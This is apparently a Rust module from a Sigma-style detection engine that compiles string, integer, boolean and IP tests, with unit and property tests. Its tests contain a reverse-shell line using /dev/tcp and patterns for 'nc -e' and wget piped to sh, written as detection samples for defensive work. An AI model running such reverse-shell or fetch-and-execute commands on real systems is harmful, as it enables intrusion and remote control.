//! Value tests built once at compile time: equality sets, Aho-Corasick for
//! `contains`, prefix/suffix lists, one regex for globs and regexes (the
//! `regex` crate: linear time, no backtracking). Globs of literals and `*`
//! alone (most Sigma wildcards) are matched by finding their literals in
//! order, the regex kept for the cases that search cannot decide alike.

use std::collections::HashSet;
use std::net::IpAddr;

use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use event::fields::Value;

use crate::cond::Op;

/// Equality sets larger than this use a hash set.
const SET_MIN: usize = 8;
/// Compiled regexes (from globs or `regex`) may not grow beyond this.
const REGEX_SIZE_LIMIT: usize = 1 << 20;

#[derive(Debug)]
pub enum Test {
    Str(StrTest),
    Int(IntTest),
    Bool(bool),
    Ip(IpTest),
    Exists,
}

#[derive(Debug)]
pub enum StrTest {
    Eq(Vec<Box<str>>),
    EqSet(HashSet<Box<str>, foldhash::fast::RandomState>),
    /// Lower-cased values.
    IEq(Vec<Box<str>>),
    IEqSet(HashSet<Box<str>, foldhash::fast::RandomState>),
    Contains(AhoCorasick, String),
    StartsWith(Vec<Box<str>>),
    EndsWith(Vec<Box<str>>),
    IStartsWith(Vec<Box<str>>),
    IEndsWith(Vec<Box<str>>),
    Regex(regex::Regex),
    /// Globs whose every pattern is literals and `*`: the same answers as
    /// `regex` (which a case-insensitive glob still uses for a value with
    /// non-ASCII text: Unicode case folding), found by literal search.
    Globs(Vec<LiteralGlob>, regex::Regex),
}

/// A glob of literal runs between `*`s.
#[derive(Debug)]
pub struct LiteralGlob {
    /// The runs; the first must start the value, the last end it (either
    /// may be empty); with one run the glob is the whole value.
    runs: Vec<Box<[u8]>>,
    /// A searcher per middle run (`runs[1..len - 1]`).
    middle: Vec<AhoCorasick>,
    insensitive: bool,
}

impl LiteralGlob {
    /// `None` when the glob has `?`, a class or (case-insensitive) text
    /// outside ASCII.
    pub fn parse(glob: &str, insensitive: bool) -> Option<LiteralGlob> {
        let mut runs = vec![Vec::new()];
        let mut chars = glob.chars();
        while let Some(c) = chars.next() {
            let c = match c {
                '*' => {
                    runs.push(Vec::new());
                    continue;
                }
                '?' | '[' => return None,
                '\\' => chars.next().unwrap_or('\\'),
                c => c,
            };
            if insensitive && !c.is_ascii() {
                return None;
            }
            let mut buf = [0; 4];
            runs.last_mut()?.extend_from_slice(c.encode_utf8(&mut buf).as_bytes());
        }
        let runs: Vec<Box<[u8]>> = runs.into_iter().map(Vec::into_boxed_slice).collect();
        let mut middle = Vec::new();
        if runs.len() > 2 {
            for run in &runs[1..runs.len() - 1] {
                let ac = AhoCorasickBuilder::new().ascii_case_insensitive(insensitive).build([run]).ok()?;
                middle.push(ac);
            }
        }
        Some(LiteralGlob { runs, middle, insensitive })
    }

    fn matches(&self, value: &[u8]) -> bool {
        let same = |a: &[u8], b: &[u8]| if self.insensitive { a.eq_ignore_ascii_case(b) } else { a == b };
        let (first, last) = match &self.runs[..] {
            [one] => return same(one, value),
            [first, .., last] => (first, last),
            [] => return false,
        };
        if value.len() < first.len() + last.len()
            || !same(first, &value[..first.len()])
            || !same(last, &value[value.len() - last.len()..])
        {
            return false;
        }
        let (mut at, end) = (first.len(), value.len() - last.len());
        for (run, ac) in self.runs[1..self.runs.len() - 1].iter().zip(&self.middle) {
            if run.is_empty() {
                continue;
            }
            match ac.find(aho_corasick::Input::new(&value[..end]).span(at..end)) {
                Some(m) => at = m.end(),
                None => return false,
            }
        }
        true
    }
}

#[derive(Debug)]
pub enum IntTest {
    In(Vec<i64>),
    Cmp(Op, i64),
}

#[derive(Debug)]
pub enum IpTest {
    In(Vec<IpAddr>),
    Cidr(Vec<ipnet::IpNet>),
}

impl StrTest {
    pub fn eq(values: &[&str], insensitive: bool) -> StrTest {
        let boxed: Vec<Box<str>> =
            values.iter().map(|v| if insensitive { v.to_ascii_lowercase().into() } else { (*v).into() }).collect();
        match (insensitive, boxed.len() >= SET_MIN) {
            (false, false) => StrTest::Eq(boxed),
            (false, true) => StrTest::EqSet(boxed.into_iter().collect()),
            (true, false) => StrTest::IEq(boxed),
            (true, true) => StrTest::IEqSet(boxed.into_iter().collect()),
        }
    }

    pub fn contains(values: &[&str], insensitive: bool) -> StrTest {
        let key = format!("{insensitive}:{values:?}");
        // Building from literal byte patterns cannot fail below the default
        // size limits; fall back to a regex alternation if it ever does.
        match AhoCorasickBuilder::new()
            .ascii_case_insensitive(insensitive)
            .match_kind(MatchKind::Standard)
            .build(values)
        {
            Ok(ac) => StrTest::Contains(ac, key),
            Err(_) => {
                let alt = values.iter().map(|v| regex::escape(v)).collect::<Vec<_>>().join("|");
                let src = if insensitive { format!("(?i){alt}") } else { alt };
                StrTest::regex(&src).unwrap_or(StrTest::Eq(Vec::new()))
            }
        }
    }

    pub fn regex(src: &str) -> Result<StrTest, regex::Error> {
        regex::RegexBuilder::new(src).size_limit(REGEX_SIZE_LIMIT).build().map(StrTest::Regex)
    }

    /// Any of `globs`; `regex` is their translation (see `glob_to_regex`).
    pub fn globs(globs: &[&str], insensitive: bool, regex: &str) -> Result<StrTest, regex::Error> {
        let re = regex::RegexBuilder::new(regex).size_limit(REGEX_SIZE_LIMIT).build()?;
        let literal: Option<Vec<LiteralGlob>> = globs.iter().map(|g| LiteralGlob::parse(g, insensitive)).collect();
        Ok(match literal {
            Some(literal) => StrTest::Globs(literal, re),
            None => StrTest::Regex(re),
        })
    }

    pub fn matches(&self, s: &str) -> bool {
        match self {
            StrTest::Eq(v) => v.iter().any(|x| &**x == s),
            StrTest::EqSet(set) => set.contains(s),
            StrTest::IEq(v) => v.iter().any(|x| x.eq_ignore_ascii_case(s)),
            StrTest::IEqSet(set) => set.contains(s.to_ascii_lowercase().as_str()),
            StrTest::Contains(ac, _) => ac.is_match(s),
            StrTest::StartsWith(v) => v.iter().any(|p| s.starts_with(&**p)),
            StrTest::EndsWith(v) => v.iter().any(|p| s.ends_with(&**p)),
            StrTest::IStartsWith(v) => {
                v.iter().any(|p| s.len() >= p.len() && s.as_bytes()[..p.len()].eq_ignore_ascii_case(p.as_bytes()))
            }
            StrTest::IEndsWith(v) => v
                .iter()
                .any(|p| s.len() >= p.len() && s.as_bytes()[s.len() - p.len()..].eq_ignore_ascii_case(p.as_bytes())),
            StrTest::Regex(r) => r.is_match(s),
            StrTest::Globs(globs, re) => match globs.first() {
                Some(g) if g.insensitive && !s.is_ascii() => re.is_match(s),
                _ => globs.iter().any(|g| g.matches(s.as_bytes())),
            },
        }
    }

    fn key(&self) -> String {
        match self {
            StrTest::Eq(v) => format!("eq{v:?}"),
            StrTest::EqSet(s) => {
                let mut v: Vec<_> = s.iter().collect();
                v.sort();
                format!("eqs{v:?}")
            }
            StrTest::IEq(v) => format!("ieq{v:?}"),
            StrTest::IEqSet(s) => {
                let mut v: Vec<_> = s.iter().collect();
                v.sort();
                format!("ieqs{v:?}")
            }
            StrTest::Contains(_, k) => format!("has{k}"),
            StrTest::StartsWith(v) => format!("sw{v:?}"),
            StrTest::EndsWith(v) => format!("ew{v:?}"),
            StrTest::IStartsWith(v) => format!("isw{v:?}"),
            StrTest::IEndsWith(v) => format!("iew{v:?}"),
            StrTest::Regex(r) | StrTest::Globs(_, r) => format!("re{}", r.as_str()),
        }
    }
}

impl Test {
    /// Identity for sharing equal predicates.
    pub fn key(&self) -> String {
        match self {
            Test::Str(s) => s.key(),
            Test::Int(IntTest::In(v)) => format!("in{v:?}"),
            Test::Int(IntTest::Cmp(op, v)) => format!("{}{v}", op.name()),
            Test::Bool(b) => format!("b{b}"),
            Test::Ip(IpTest::In(v)) => format!("ip{v:?}"),
            Test::Ip(IpTest::Cidr(v)) => format!("cidr{v:?}"),
            Test::Exists => "exists".into(),
        }
    }

    /// Whether one value passes (the mask already applied to ints).
    pub fn matches(&self, v: Value<'_>) -> bool {
        match (self, v) {
            (Test::Exists, _) => true,
            (Test::Str(t), Value::Str(s)) => t.matches(s),
            (Test::Str(t), other) => t.matches(&other.to_string()),
            (Test::Int(IntTest::In(set)), Value::Int(i)) => set.contains(&i),
            (Test::Int(IntTest::Cmp(op, x)), Value::Int(i)) => match op {
                Op::Lt => i < *x,
                Op::Le => i <= *x,
                Op::Gt => i > *x,
                Op::Ge => i >= *x,
                _ => false,
            },
            (Test::Bool(b), Value::Bool(v)) => *b == v,
            (Test::Ip(IpTest::In(set)), Value::Ip(ip)) => set.iter().any(|x| same_ip(*x, ip)),
            (Test::Ip(IpTest::Cidr(nets)), Value::Ip(ip)) => {
                let ip = canonical(ip);
                nets.iter().any(|n| n.contains(&ip))
            }
            _ => false,
        }
    }
}

/// IPv4-mapped IPv6 addresses (`::ffff:1.2.3.4`) compare as IPv4.
fn canonical(ip: IpAddr) -> IpAddr {
    match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map(IpAddr::V4).unwrap_or(ip),
        v4 => v4,
    }
}

fn same_ip(a: IpAddr, b: IpAddr) -> bool {
    canonical(a) == canonical(b)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn string_tests() {
        assert!(StrTest::eq(&["a", "b"], false).matches("b"));
        assert!(!StrTest::eq(&["a"], false).matches("A"));
        assert!(StrTest::eq(&["BaSh"], true).matches("bash"));
        let many: Vec<String> = (0..20).map(|i| format!("V{i}")).collect();
        let refs: Vec<&str> = many.iter().map(|s| s.as_str()).collect();
        assert!(StrTest::eq(&refs, true).matches("v13"));
        assert!(StrTest::eq(&refs, false).matches("V13") && !StrTest::eq(&refs, false).matches("v13"));
        assert!(StrTest::contains(&["/dev/tcp/", "nc -e"], false).matches("bash -i >& /dev/tcp/1.2.3.4/1"));
        assert!(StrTest::contains(&["WGET"], true).matches("/usr/bin/wget -q"));
        assert!(StrTest::IStartsWith(vec!["/tmp/".into()]).matches("/TMP/x"));
        assert!(StrTest::IEndsWith(vec!["/nc".into()]).matches("/usr/bin/NC"));
        assert!(!StrTest::IEndsWith(vec!["/nc".into()]).matches("c"));
        assert!(StrTest::regex("^a.*z$").unwrap().matches("abcz"));
    }

    fn glob_test(globs: &[&str], insensitive: bool) -> StrTest {
        let parts: Vec<String> = globs.iter().map(|g| crate::compile::glob_to_regex(g)).collect();
        let src = format!("{}^(?:{})$", if insensitive { "(?is)" } else { "(?s)" }, parts.join("|"));
        StrTest::globs(globs, insensitive, &src).unwrap()
    }

    #[test]
    fn literal_globs() {
        let t = glob_test(&["*wget * - http* | sh*", "/tmp/x"], true);
        assert!(matches!(t, StrTest::Globs(..)));
        assert!(t.matches("WGET -O - http://h/x | sh"));
        assert!(t.matches("/TMP/X") && !t.matches("/tmp/x2"));
        assert!(!t.matches("wget -O - https://h | perl"));
        // Runs may not overlap: `ab*ba` needs four bytes.
        let t = glob_test(&["ab*ba"], false);
        assert!(!t.matches("aba") && t.matches("abba") && t.matches("ab-ba") && !t.matches("AB-BA"));
        let t = glob_test(&["*ab*ba*"], false);
        assert!(!t.matches("aba") && t.matches("abba") && t.matches("xabyybaz"));
        // `?`, classes and non-ASCII case-insensitive text stay regexes.
        assert!(matches!(glob_test(&["a?c"], false), StrTest::Regex(_)));
        assert!(matches!(glob_test(&["*[ab]*"], false), StrTest::Regex(_)));
        assert!(matches!(glob_test(&["*é*"], true), StrTest::Regex(_)));
        assert!(matches!(glob_test(&["*é*"], false), StrTest::Globs(..)));
        // A value outside ASCII is left to the regex's Unicode folding:
        // KELVIN SIGN folds to k.
        let t = glob_test(&["*k*"], true);
        assert!(t.matches("\u{212a}") && t.matches("K"));
        assert!(glob_test(&["a\\*b"], false).matches("a*b") && !glob_test(&["a\\*b"], false).matches("axb"));
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(3000))]

        /// The literal search answers as the regex does, for globs and
        /// values over a small alphabet (stars, escapes, case, non-ASCII).
        #[test]
        fn literal_globs_match_their_regex(
            globs in proptest::collection::vec("[aAb/*\\\\é]{0,7}", 1..3),
            value in "[aAbB/*\\\\é\u{212a}]{0,10}",
            insensitive in proptest::bool::ANY,
        ) {
            let refs: Vec<&str> = globs.iter().map(String::as_str).collect();
            let t = glob_test(&refs, insensitive);
            let StrTest::Globs(_, re) = &t else { return Ok(()) };
            proptest::prop_assert_eq!(t.matches(&value), re.is_match(&value), "{:?} {:?}", globs, value);
        }

        /// Two letters and stars: runs that overlap or repeat.
        #[test]
        fn literal_globs_of_two_letters(glob in "[ab*]{0,7}", value in "[ab]{0,9}") {
            let t = glob_test(&[&glob], false);
            let StrTest::Globs(_, re) = &t else { return Ok(()) };
            proptest::prop_assert_eq!(t.matches(&value), re.is_match(&value), "{:?} {:?}", glob, value);
        }
    }

    #[test]
    fn ip_tests() {
        let v4: IpAddr = "10.1.2.3".parse().unwrap();
        let mapped: IpAddr = "::ffff:10.1.2.3".parse().unwrap();
        let net = Test::Ip(IpTest::Cidr(vec!["10.0.0.0/8".parse().unwrap()]));
        assert!(net.matches(Value::Ip(v4)) && net.matches(Value::Ip(mapped)));
        assert!(Test::Ip(IpTest::In(vec![v4])).matches(Value::Ip(mapped)));
        assert!(Test::Str(StrTest::StartsWith(vec!["10.".into()])).matches(Value::Ip(v4)));
    }
}
